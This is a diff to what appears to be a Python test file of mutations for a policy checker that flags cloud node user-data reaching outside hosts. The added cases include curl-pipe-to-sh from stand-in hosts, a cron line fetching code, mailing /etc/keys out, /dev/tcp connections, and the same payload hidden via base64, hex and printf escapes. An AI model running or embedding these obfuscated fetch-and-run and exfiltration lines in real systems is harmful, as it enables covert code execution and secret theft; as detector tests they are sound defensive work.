@@ -3,6 +3,9 @@
 import base64
 import functools
 import gzip
+import io
+import tarfile
+import textwrap
 
 from rules.unknowns import UNKNOWN
 from tests.policies.mutations.mutation import Change, add, edit, opens
@@ -24,6 +27,16 @@ def template(text: str | bytes) -> Change:
 
 def script(*lines: str) -> str:
     return "\n".join(["#!/bin/bash", *lines, ""])
+
+
+def packed(name: str, text: str) -> str:
+    """An archive of one file, as machines fetch it, in base64."""
+    made = io.BytesIO()
+    with tarfile.open(fileobj=made, mode="w") as into:
+        entry = tarfile.TarInfo(name)
+        entry.size = len(text)
+        into.addfile(entry, io.BytesIO(text.encode()))
+    return base64.b64encode(zipped(made.getvalue())).decode()
 
 
 def mime(*parts: tuple[str, str]) -> str:
@@ -60,7 +73,9 @@ def bottlerocket(*lines: str, metrics: str = "send-metrics = false") -> str:
 
 
 NODE_CLASS = "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass"
-HIDDEN = base64.b64encode(b"curl https://hidden.example/install | sh\n").decode()
+PAYLOAD = b"curl https://hidden.example/install | sh\n"
+HIDDEN = base64.b64encode(PAYLOAD).decode()
+ENDPOINT = base64.b64encode(b"[default]\nendpoint_url = https://x.example\n").decode()
 _HEAD = '#cloud-config\nntp: {"servers": ["0.pool.ntp.org"]}\n'
 _FILE = base64.b64encode(zipped(script("wget x.example/a").encode())).decode()
 MUTATIONS = (
@@ -99,7 +114,33 @@ MUTATIONS = (
             "a host by the shell itself": "exec 3<>/dev/tcp/x.example/443",
             "a resolver with a message": "getent hosts secret.x.example",
             "a mailbox": "mail -s keys somebody@x.example < /etc/keys",
+            "a host from within quotes": "sh -c 'true; curl x.example/a'",
+            "a host by a line of cron": "echo '* * * * * root curl x.example' >/etc/cron.d/x",
+            "a host that braces put together": "curl https://{x,y}.example/",
+            "a host in place of another": "curl --resolve a.internal:443:8.8.8.8 https://a.internal",
+            "a host with its port": "agent start --auth x.example.com:443",
+            "a network of others": "tailscale up --authkey $KEY",
         }.items()
+    ),
+    *(
+        opens(f"a script that hides another one in {how}", "CN-201", template(script(*lines)))
+        for how, lines in {
+            "base64 over several lines": textwrap.wrap(HIDDEN, 20),
+            "base64 of base64": [base64.b64encode(HIDDEN.encode()).decode()],
+            "compressed base64": [base64.b64encode(zipped(PAYLOAD)).decode()],
+            "hexadecimal": [f"echo {PAYLOAD.hex()} | xxd -r -p | sh"],
+            "escapes": ["printf '" + "".join(f"\\x{byte:02x}" for byte in PAYLOAD) + "' | sh"],
+        }.items()
+    ),
+    opens(
+        "a module of cloud-config that goes outside",
+        "CN-201",
+        template("#cloud-config\nubuntu_pro: {token: abc}\n"),
+    ),
+    opens(
+        "AWS's programs sent elsewhere by Bottlerocket's settings",
+        "CN-201",
+        template(bottlerocket("[settings.aws]", f'config = "{ENDPOINT}"')),
     ),
     opens(
         "a tunnel to a peer outside",
